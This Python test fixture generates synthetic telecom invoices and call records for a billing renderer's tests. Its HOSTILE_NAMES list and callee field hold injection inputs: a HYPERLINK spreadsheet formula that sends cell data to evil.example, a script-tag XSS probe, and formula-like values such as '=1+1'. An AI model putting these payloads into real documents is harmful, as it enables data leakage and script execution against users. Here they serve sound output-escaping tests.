"""Invoice documents and call detail for the renderer tests and benchmarks (D8, D10).

Calls are generated deterministically from their index, so a generator over a
million calls can be replayed without being kept in memory, and each line's
CALLS charge equals the sum of that subscriber's call costs, as in the demo data.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import date, datetime, timedelta
from decimal import Decimal

from domain.accounts import BankAccount, BillingAccount, Client
from domain.documents import CallRecord, InvoiceDocument
from domain.ids import AccountId, ClientId, InvoiceId
from domain.invoices import ChargeType, Invoice, InvoiceLine, compute_totals
from domain.money import money
from domain.periods import MINSK, BillingPeriod
from infra.operator import OPERATOR

PERIOD = BillingPeriod(2026, 10)

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажми")',
    "<script>alert('x')</script> Отдел продаж",
    "Иванов & Ко",
    "+375 29 000-00-00",
    "@SUM(A1:A2)",
    "-2+3",
)


def make_client() -> Client:
    return Client(
        id=ClientId(1),
        name="ООО «Ромашка & Партнёры»",
        unp="190000001",
        okpo="12345678",
        status="ACTIVE",
        payment_form="CREDIT",
        contract_number="Д-2021/0457",
        contract_date=date(2021, 3, 15),
        email="buh@romashka.by",
        balance=Decimal("-120.50"),
        bank_accounts=(BankAccount("BY13NBRB3600900000002Z00AB00", "NBRBBY2X", "Нацбанк"),),
    )


def subscriber_number(i: int) -> str:
    n = 1_000_000 + i
    return f"+375 29 {n // 10_000 % 1_000:03d}-{n // 100 % 100:02d}-{n % 100:02d}"


def _subscriber_name(i: int) -> str:
    if i < len(HOSTILE_NAMES):
        return HOSTILE_NAMES[i]
    names = ("Иванов Иван Иванович", "Петрова Анна Сергеевна", "Склад №2", "Бухгалтерия")
    return f"{names[i % len(names)]} ({i})"


def call_cost(k: int) -> Decimal:
    """The cost of the k-th call: a few kopecks to a few roubles."""
    return Decimal((k * 7919) % 400 + 1) / 100


def make_call(k: int, subscribers: int) -> CallRecord:
    """The k-th call: spread over every hour of every day of the period."""
    start = PERIOD.starts_at + timedelta(seconds=(k * 7_793) % (31 * 86_400))
    return CallRecord(
        subscriber_number=subscriber_number(k % subscribers),
        started_at=start,
        duration_s=(k * 31) % 3_600 + 1,
        callee="=1+1" if k % 1_000 == 7 else f"+375 17 {k % 10_000_000:07d}",
        kind=("Исходящий местный", "Исходящий на мобильный", "Международный")[k % 3],
        cost=call_cost(k),
    )


def make_calls(count: int, subscribers: int) -> Iterator[CallRecord]:
    """A generator: a million calls never sit in memory."""
    return (make_call(k, subscribers) for k in range(count))


def calls_charges(count: int, subscribers: int) -> list[Decimal]:
    """Each subscriber's CALLS charge: the sum of its call costs."""
    sums = [Decimal(0)] * subscribers
    for k in range(count):
        sums[k % subscribers] += call_cost(k)
    return sums


def make_lines(subscribers: int, calls_sums: Sequence[Decimal] | None = None) -> list[InvoiceLine]:
    lines = []
    for i in range(subscribers):
        calls = (
            calls_sums[i] if calls_sums is not None else money(Decimal(i % 50) + Decimal("0.37"))
        )
        charges = {
            ChargeType.SUBSCRIPTION: money(Decimal("12.90") + i % 3),
            ChargeType.CALLS: money(calls),
            ChargeType.SMS: money(Decimal(i % 7) * Decimal("0.15")),
            ChargeType.INTERNET: money(Decimal((i * 13) % 40) + Decimal("0.99")),
            ChargeType.SERVICES: money(Decimal(i % 4) * Decimal("1.25")),
        }
        lines.append(InvoiceLine(subscriber_number(i), _subscriber_name(i), charges))
    return lines


def make_document(subscribers: int = 8, calls: int | None = None) -> InvoiceDocument:
    """An invoice of PERIOD; with calls, its CALLS column matches make_calls(calls, ...)."""
    sums = calls_charges(calls, subscribers) if calls is not None else None
    lines = make_lines(subscribers, sums)
    opening = Decimal("-120.50")
    payments = Decimal("300.00")
    totals = compute_totals(lines, opening, payments)
    invoice = Invoice(
        id=InvoiceId(77),
        account_id=AccountId(5),
        number="СЧ-2026-10-000077",
        period=PERIOD,
        formed_at=datetime(2026, 11, 1, 3, 15, tzinfo=MINSK),
        opening_balance=opening,
        payments=payments,
        total=totals.net,
        vat=totals.vat,
        amount_due=totals.amount_due,
        lines=tuple(lines),
    )
    account = BillingAccount(
        id=AccountId(5),
        client_id=ClientId(1),
        number="1234567890",
        balance=Decimal(0),
        opened_on=date(2021, 3, 15),
    )
    return InvoiceDocument(
        operator=OPERATOR, client=make_client(), account=account, invoice=invoice
    )
